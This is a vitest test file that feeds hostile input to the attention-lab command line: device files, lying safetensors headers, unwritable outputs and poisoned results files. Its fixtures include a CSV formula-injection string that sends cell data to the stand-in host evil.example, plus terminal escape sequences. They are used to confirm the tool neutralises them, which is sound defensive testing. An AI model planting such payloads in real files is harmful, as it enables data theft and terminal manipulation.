import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';

/**
 * Hostile and careless input to the built command line (dist-cli/attention-lab.mjs, spawned as a
 * user would, on the CPU engine): each fails at once with one line, or writes nothing a
 * spreadsheet would run.
 */
const root = resolve(import.meta.dirname, '../..');
const bin = join(root, 'bin/attention-lab.mjs');
const bundle = join(root, 'dist-cli/attention-lab.mjs');
const tmp = mkdtempSync(join(tmpdir(), 'attention-lab-hostile-'));

function newestUnder(dir: string): number {
  let t = 0;
  for (const f of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, f.name);
    t = Math.max(t, f.isDirectory() ? newestUnder(p) : statSync(p).mtimeMs);
  }
  return t;
}

beforeAll(() => {
  const stale = !existsSync(bundle) || statSync(bundle).mtimeMs < newestUnder(join(root, 'src'));
  if (stale) execFileSync('npx', ['vite', 'build', '--config', 'scripts/cli.vite.config.ts', '--logLevel', 'warn'], { cwd: root, stdio: 'inherit' });
}, 60_000);

function cli(...args: string[]) {
  const t0 = performance.now();
  const r = spawnSync(process.execPath, [bin, ...args], { cwd: tmp, encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, ms: performance.now() - t0 };
}

const MODEL_LINK = '#v=1&model=gpt2&text=hi&p0=softmax';

describe('the command line under hostile input', () => {
  it('--model-file /dev/zero is refused at once with one line (it used to read until memory ran out)', () => {
    const r = cli('run', MODEL_LINK, '--model-file', '/dev/zero', '--device', 'cpu');
    console.log(`--model-file /dev/zero: exit ${r.code} after ${r.ms.toFixed(0)} ms`);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual(['attention-lab: model gpt2: /dev/zero: not a regular file (a device, pipe or folder cannot be read as one)']);
    expect(r.ms).toBeLessThan(5000);
  });

  it('a safetensors header that promises more bytes than the file holds is refused before reading the data', () => {
    const header = Buffer.from(JSON.stringify({ 'wte.weight': { dtype: 'F32', shape: [50257, 768], data_offsets: [0, 154389504] } }));
    const len = Buffer.alloc(8);
    len.writeBigUInt64LE(BigInt(header.length));
    const path = join(tmp, 'lying.safetensors');
    writeFileSync(path, Buffer.concat([len, header, Buffer.alloc(16)]));
    const r = cli('run', MODEL_LINK, '--model-file', path, '--device', 'cpu');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/the header's tensors need 154389\d+ bytes but the file has \d+ \(truncated\?\)/);
    const huge = join(tmp, 'huge-header.safetensors');
    const big = Buffer.alloc(8);
    big.writeBigUInt64LE(2n ** 62n);
    writeFileSync(huge, big);
    expect(cli('run', MODEL_LINK, '--model-file', huge, '--device', 'cpu').stderr).toMatch(/the header claims 4611686018427387904 bytes but the file has 8/);
  });

  it('an --out that cannot be written fails before the batch, not after it', () => {
    const r = cli('run', '#v=1&n=64&h=4&d=8', '--seeds', '1-200', '--device', 'cpu', '--out', '/proc/results.csv');
    console.log(`--out /proc/results.csv with 200 seeds: exit ${r.code} after ${r.ms.toFixed(0)} ms`);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/--out \/proc\/results\.csv: cannot be written/);
    expect(r.ms).toBeLessThan(5000); // the batch itself takes far longer
  });

  it('a text a spreadsheet would run as a formula is written as text in every CSV', () => {
    const attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const texts = join(tmp, 'texts.json');
    writeFileSync(texts, JSON.stringify([attack, '+1', '@SUM(A1)', '-2', 'In the beginning']));
    const out = join(tmp, 'r.csv');
    const r = cli('run', '#v=1&model=kjv-baseline&text=x&p0=softmax&p1=act', '--texts', texts, '--layers', '0', '--device', 'cpu', '--out', out, '--quiet');
    expect(r.code, r.stderr).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    for (const line of csv.split('\n')) for (const field of line.match(/(?<=^|,)("(?:[^"]|"")*"|[^,]*)/g) ?? []) {
      expect(field.replace(/^"/, ''), line.slice(0, 40)).not.toMatch(/^[=+@]/);
    }
    expect(csv).toMatch(/,'\+1,/);
    expect(csv).toMatch(/,'-2,/);
  }, 60_000);
});

describe('attention-lab open on a hostile results file', () => {
  it('prints no raw terminal escapes and refuses rows with impossible heads', () => {
    const json = join(tmp, 'res.json');
    const made = cli('run', '#v=1&n=8&h=2&d=4&D=8&p0=softmax&p1=act', '--seeds', '1-2', '--device', 'cpu', '--out', json, '--quiet');
    expect(made.code, made.stderr).toBe(0);
    const r = JSON.parse(readFileSync(json, 'utf8')) as { panes: { method: string }[]; rows: { head: number; maxAlphaNonInitial: number }[] };
    (r.panes[0] as { method: string }).method = '\u001b]0;pwned\u0007\u001b[31msoftmax';
    for (const row of r.rows) row.maxAlphaNonInitial = 0.5;
    writeFileSync(json, JSON.stringify(r));
    const ok = cli('open', json, '--stat', 'maxAlphaNonInitial');
    expect(ok.code, ok.stderr).toBe(0);
    expect(ok.stderr).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(ok.stderr).toContain('\\x1b]0;pwned\\x07\\x1b[31msoftmax');
    for (const row of r.rows) row.head = 99;
    writeFileSync(json, JSON.stringify(r));
    const bad = cli('open', json, '--stat', 'maxAlphaNonInitial');
    expect(bad.code).toBe(1);
    expect(bad.stderr).toMatch(/its best row does not make a valid experiment: .*head/);
    expect(bad.stdout).toBe('');
  });
});
